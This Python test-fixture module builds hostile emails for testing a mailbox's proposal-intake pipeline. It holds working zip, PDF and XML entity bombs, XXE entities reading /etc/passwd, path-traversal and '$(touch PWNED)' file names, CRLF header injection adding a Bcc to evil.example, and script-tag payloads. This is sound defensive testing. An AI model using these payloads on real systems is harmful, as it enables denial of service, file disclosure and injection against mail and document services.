"""Hostile and broken messages, built in code: what anyone may send to a public mailbox.

Each builder returns the raw RFC 5322 bytes of one message. The proposal text they carry
(PROPOSAL_BODY) is enough for the pipeline to open a dossier, so that an answer is written
and can be checked too.
"""
from __future__ import annotations

import io
import os
import zipfile
from email.message import EmailMessage

PROPOSAL_BODY = """Bonjour,

Voici notre candidature.

CONTEXTE
Les centres d'appels déploient des agents conversationnels.

OBJECTIFS
Ouvrir le dialogue social sur ces outils.

PROBLEMATIQUE
Comment associer les conseillers au paramétrage ?

Cordialement,
Jeanne Dupont
"""
PASSWD_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:x:")


def mail(subject: str, *, sender: str = "Jeanne Dupont <jeanne@cabinet-dupont.example>",
         body: str = PROPOSAL_BODY, attachments=(), mid: str | None = None) -> EmailMessage:
    m = EmailMessage()
    m["From"] = sender
    m["To"] = "fabrique@anact.fr"
    m["Subject"] = subject
    m["Date"] = "Tue, 02 Aug 2022 10:00:00 +0200"
    m["Message-ID"] = mid or f"<{abs(hash(subject)):x}.{os.urandom(4).hex()}@cabinet-dupont.example>"
    m.set_content(body)
    for data, maintype, subtype, filename in attachments:
        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return m


def raw_mail(headers: str, body: str = PROPOSAL_BODY) -> bytes:
    """A message written by hand: headers exactly as given (CRLF line ends)."""
    head = headers.strip("\n").replace("\r\n", "\n").replace("\n", "\r\n")
    return (head + "\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
            "Content-Transfer-Encoding: 8bit\r\n\r\n" + body.replace("\n", "\r\n")).encode("utf-8")


# --- zip bombs -------------------------------------------------------------------------

def zip_members(members: list[tuple[str, bytes]], level: int = 9) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


MIB = 1 << 20


def zeros_deflate(mib: int) -> bytes:
    """A raw deflate stream of `mib` MiB of zero bytes, built in milliseconds: with a full
    flush after each MiB every block is the same ~1 KB, so it is computed once and repeated."""
    import zlib

    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = co.compress(b"\0" * MIB) + co.flush(zlib.Z_FULL_FLUSH)
    return block * mib + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def zeros_crc32(mib: int) -> int:
    import zlib

    chunk, crc = b"\0" * (16 * MIB), 0
    for _ in range(mib // 16):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(b"\0" * (mib % 16 * MIB), crc)


def zip_of_zeros(members: list[tuple[str, int]]) -> bytes:
    """A valid zip (CRC and sizes right) whose members are MiB of zeros: (name, MiB) each."""
    import struct

    local, central = bytearray(), bytearray()
    cache: dict[int, tuple[bytes, int]] = {}
    for name, mib in members:
        if mib not in cache:
            cache[mib] = (zeros_deflate(mib), zeros_crc32(mib))
        data, crc = cache[mib]
        size = mib * MIB
        assert size < 1 << 32, "zip64 sizes are not written here"
        fname = name.encode()
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(fname), 0)
        local += fname + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size,
                               len(fname), 0, 0, 0, 0, 0, offset) + fname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0)
    return bytes(local + central + end)


def flat_zip_bomb(members: int = 10, each_mib: int = 1024) -> bytes:
    """`members` files of `each_mib` MiB of zeros (10 GiB by default) in a zip of about 10 MB."""
    return zip_of_zeros([(f"budget-{i}.xlsx", each_mib) for i in range(members)])


def nested_zip_bomb(depth: int = 6, width: int = 16, leaf_mib: int = 64) -> bytes:
    """42.zip-like: `width` copies of the level below at each of `depth` levels, zeros at the leaves
    (16**6 x 64 MiB unpacked by default)."""
    data = zip_of_zeros([("candidature.docx", leaf_mib)])
    for level in range(depth):
        data = zip_members([(f"niveau{level}-{i}.zip", data) for i in range(width)])
    return data


def overlapping_zip_bomb(copies: int = 1000) -> bytes:
    """Many central-directory entries pointing at one compressed member (Fifield's overlap)."""
    data = bytearray(zip_of_zeros([("a.docx", 32)]))
    eocd = data.rfind(b"PK\x05\x06")
    cd_offset = int.from_bytes(data[eocd + 16:eocd + 20], "little")
    cd = bytes(data[cd_offset:eocd])
    entries = cd * copies
    out = bytes(data[:cd_offset]) + entries
    tail = bytearray(data[eocd:eocd + 22])
    tail[8:10] = tail[10:12] = min(copies, 0xFFFF).to_bytes(2, "little")
    tail[12:16] = len(entries).to_bytes(4, "little")
    tail[16:20] = cd_offset.to_bytes(4, "little")
    return out + bytes(tail)


# --- deep MIME -------------------------------------------------------------------------

def deep_multipart(levels: int = 200) -> bytes:
    head = ("From: Jeanne Dupont <jeanne@cabinet-dupont.example>\r\nTo: fabrique@anact.fr\r\n"
            "Subject: Candidature imbriquée\r\nMessage-ID: <deep-multipart@cabinet-dupont.example>\r\n"
            "Date: Tue, 02 Aug 2022 10:00:00 +0200\r\nMIME-Version: 1.0\r\n")
    opening, closing = [], []
    for i in range(levels):
        opening.append(f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n')
        closing.append(f"\r\n--b{i}--\r\n")
    inner = "Content-Type: text/plain; charset=utf-8\r\n\r\n" + PROPOSAL_BODY.replace("\n", "\r\n")
    return (head + "".join(opening) + inner + "".join(reversed(closing))).encode()


def deep_rfc822(levels: int = 200) -> bytes:
    msg = ("From: Jeanne Dupont <jeanne@cabinet-dupont.example>\r\nTo: fabrique@anact.fr\r\n"
           "Subject: Candidature\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
           + PROPOSAL_BODY.replace("\n", "\r\n"))
    for i in range(levels):
        msg = (f"From: Relais {i} <relais{i}@cabinet-dupont.example>\r\nTo: fabrique@anact.fr\r\n"
               f"Subject: Fwd: niveau {i}\r\nMIME-Version: 1.0\r\n"
               f"Content-Type: message/rfc822\r\n\r\n" + msg)
    head = ("Message-ID: <deep-rfc822@cabinet-dupont.example>\r\nDate: Tue, 02 Aug 2022 10:00:00 +0200\r\n")
    return (head + msg).encode()


# --- PDFs that make readers loop or explode -----------------------------------------------

def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf_circular_pages() -> bytes:
    """A page tree whose Kids point back at its root, and a page that is its own parent."""
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R 4 0 R] /Count 3 >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
        b"<< /Type /Page /Parent 4 0 R /Kids [4 0 R] /MediaBox [0 0 612 792] >>",
    ])


def pdf_nested_arrays(depth: int = 100_000) -> bytes:
    """A content stream and an object of arrays nested `depth` deep."""
    nested = b"[" * depth + b"]" * depth
    content = b"BT /F1 12 Tf 72 720 Td (Contexte) Tj ET\n" + nested + b" TJ\n"
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Deep " + nested + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def pdf_deflate_bomb(size: int = 2 << 30) -> bytes:
    """A page whose content stream inflates to `size` bytes (2 GiB by default) from a few MB."""
    mib = size // MIB
    # a zlib stream (header, deflate, Adler-32) of zeros: Adler-32 of n zeros is (n mod 65521) << 16 | 1
    data = b"\x78\xda" + zeros_deflate(mib) + (((mib * MIB) % 65521) << 16 | 1).to_bytes(4, "big")
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(data, b"/Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def pdf_huge_object_stream(count: int = 1_000_000) -> bytes:
    """An object stream declaring a million objects, and a page tree claiming as many pages."""
    header = b" ".join(b"%d %d" % (10 + i, i * 4) for i in range(2000))
    body = header + b" " + b"<<>>" * 2000
    kids = b" ".join(b"3 0 R" for _ in range(50_000))
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        _stream(body, b"/Type /ObjStm /N %d /First %d" % (count, len(header) + 1)),
    ])


# --- DOCX with XML entities -------------------------------------------------------------------

def docx_with_entities(document_xml: bytes) -> bytes:
    """A python-docx document whose word/document.xml is replaced by `document_xml`."""
    import docx

    d = docx.Document()
    d.add_paragraph("x")
    buf = io.BytesIO()
    d.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            zf.writestr(info, document_xml if info.filename == "word/document.xml" else src.read(info))
    return out.getvalue()


_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _doc(doctype: bytes, paragraphs: list[bytes]) -> bytes:
    body = b"".join(b"<w:p><w:r><w:t>" + p + b"</w:t></w:r></w:p>" for p in paragraphs)
    return (b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n' + doctype
            + b"<w:document " + _W + b"><w:body>" + body + b"</w:body></w:document>")


def docx_xxe() -> bytes:
    """External entities (a file, a URL, a parameter entity) inside the proposal's headings."""
    doctype = (b'<!DOCTYPE w:document [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
               b'<!ENTITY net SYSTEM "http://127.0.0.1:9/xxe">\n'
               b'<!ENTITY % remote SYSTEM "file:///etc/passwd">\n]>\n')
    return docx_with_entities(_doc(doctype, [b"Contexte", b"Les centres d'appels &xxe; changent.",
                                             b"Objectifs", b"&net; Ouvrir le dialogue.",
                                             b"Probl\xc3\xa9matique", b"Comment associer les conseillers ?"]))


def docx_billion_laughs() -> bytes:
    ents = b'<!ENTITY lol0 "lollollollollollollollollollol">\n'
    for i in range(1, 10):
        ents += b'<!ENTITY lol%d "' % i + b"&lol%d;" % (i - 1) * 10 + b'">\n'
    return docx_with_entities(_doc(b"<!DOCTYPE w:document [\n" + ents + b"]>\n", [b"Contexte", b"&lol9;"]))


# --- names ---------------------------------------------------------------------------------

HOSTILE_FILENAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config\\sam",
    "/etc/shadow",
    "candidature\x00.pdf.exe",
    "CON", "CON.docx", "nul.pdf", "LPT1",
    "budget\r\nContent-Type: text/html.xlsx",
    "\u202egpj.exe.docx",  # right-to-left override
    "." * 300,
    "a" * 5000 + ".pdf",
    "~/.ssh/authorized_keys",
    "$(touch PWNED).pdf",
]


def hostile_filenames_mail() -> bytes:
    """One small text attachment per hostile name, each name written as RFC 2231 allows it
    (percent-encoded, so NUL, CR and LF reach the parser as the attacker meant)."""
    from urllib.parse import quote

    parts = []
    for i, name in enumerate(HOSTILE_FILENAMES):
        enc = quote(name.encode("utf-8"), safe="")
        parts.append(f"--b\r\nContent-Type: application/octet-stream; name*=utf-8''{enc}\r\n"
                     f"Content-Disposition: attachment; filename*=utf-8''{enc}\r\n"
                     f"Content-Transfer-Encoding: 7bit\r\n\r\nAnnexe {i} : budget 1 000 euros\r\n")
    text = PROPOSAL_BODY.replace("\n", "\r\n")
    return ("From: Jeanne Dupont <jeanne@cabinet-dupont.example>\r\nTo: fabrique@anact.fr\r\n"
            "Subject: Candidature avec annexes\r\nMessage-ID: <names@cabinet-dupont.example>\r\n"
            "Date: Tue, 02 Aug 2022 10:00:00 +0200\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
            f"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
            + "".join(parts) + "--b--\r\n").encode("utf-8")


INJECTED = "injected@evil.example"


def header_injection_mails() -> dict[str, bytes]:
    """Display names, subjects and ids that try to smuggle a header into our answers."""
    enc = "=?utf-8?q?x=0D=0ABcc:_" + INJECTED + "?="
    return {
        "encoded-from": raw_mail(f"From: {enc} <jeanne1@cabinet-dupont.example>\nTo: fabrique@anact.fr\n"
                                 "Subject: Candidature projet DIALOGUE\nMessage-ID: <inj1@cabinet-dupont.example>\n"
                                 "Date: Tue, 02 Aug 2022 10:00:00 +0200"),
        "encoded-subject": raw_mail("From: Jeanne <jeanne2@cabinet-dupont.example>\nTo: fabrique@anact.fr\n"
                                    f"Subject: Candidature {enc}\nMessage-ID: <inj2@cabinet-dupont.example>\n"
                                    "Date: Tue, 02 Aug 2022 10:00:00 +0200"),
        "base64-from": raw_mail("From: =?utf-8?b?SmVhbm5lDQpCY2M6IGluamVjdGVkQGV2aWwuZXhhbXBsZQ==?= "
                                "<jeanne3@cabinet-dupont.example>\nTo: fabrique@anact.fr\n"
                                "Subject: Candidature projet TROIS\nMessage-ID: <inj3@cabinet-dupont.example>\n"
                                "Date: Tue, 02 Aug 2022 10:00:00 +0200"),
        "quoted-newline-from": raw_mail('From: "Jeanne\\\r\nBcc: ' + INJECTED + '" <jeanne4@cabinet-dupont.example>\n'
                                        "To: fabrique@anact.fr\nSubject: Candidature projet QUATRE\n"
                                        "Message-ID: <inj4@cabinet-dupont.example>\n"
                                        "Date: Tue, 02 Aug 2022 10:00:00 +0200"),
        "folded-references": raw_mail("From: Jeanne <jeanne5@cabinet-dupont.example>\nTo: fabrique@anact.fr\n"
                                      "Subject: Candidature projet CINQ\n"
                                      "Message-ID: <inj5@cabinet-dupont.example>\n"
                                      f"References: <a@b.example>\n =?utf-8?q?=0D=0ABcc:_{INJECTED}?= <c@d.example>\n"
                                      f"In-Reply-To: <x@y.example>=?utf-8?q?=0D=0ABcc:_{INJECTED}?=\n"
                                      "Date: Tue, 02 Aug 2022 10:00:00 +0200"),
        "html-name": raw_mail('From: "<script>alert(1)</script>" <jeanne6@cabinet-dupont.example>\n'
                              "To: fabrique@anact.fr\nSubject: <img src=x onerror=alert(2)> Candidature SIX\n"
                              "Message-ID: <inj6@cabinet-dupont.example>\nDate: Tue, 02 Aug 2022 10:00:00 +0200"),
    }


def big_pdf(image_bytes: int = 40 << 20) -> bytes:
    """A proposal page and an uncompressed RGB image of `image_bytes` bytes drawn on it."""
    import os as _os

    side = int((image_bytes / 3) ** 0.5)
    pixels = _os.urandom(side * side * 3)
    text = (b"BT /F1 14 Tf 72 740 Td (Contexte) Tj 0 -20 Td (Les centres d'appels changent.) Tj "
            b"0 -30 Td (Objectifs) Tj 0 -20 Td (Ouvrir le dialogue.) Tj ET q 200 0 0 200 72 300 cm /Im1 Do Q\n")
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >> >>",
        _stream(text),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        _stream(pixels, b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                        b"/BitsPerComponent 8" % (side, side)),
    ])


def html_correspondence() -> bytes:
    """A question (no proposal: correspondence, listed in the digest) full of markup."""
    m = EmailMessage()
    m["From"] = '"<b onmouseover=alert(3)>Paul</b>" <paul.question@elsewhere.example>'
    m["To"] = "fabrique@anact.fr"
    m["Subject"] = "<script>alert(4)</script> Question sur l'appel"
    m["Date"] = "Tue, 02 Aug 2022 10:00:00 +0200"
    m["Message-ID"] = "<html-question@elsewhere.example>"
    m.set_content("Bonjour, un consultant peut-il candidater seul ?")
    m.add_alternative("<html><body><script>alert(5)</script><p onclick='x()'>Bonjour</p>"
                      "<iframe src='http://evil.example'></iframe></body></html>", subtype="html")
    return bytes(m)
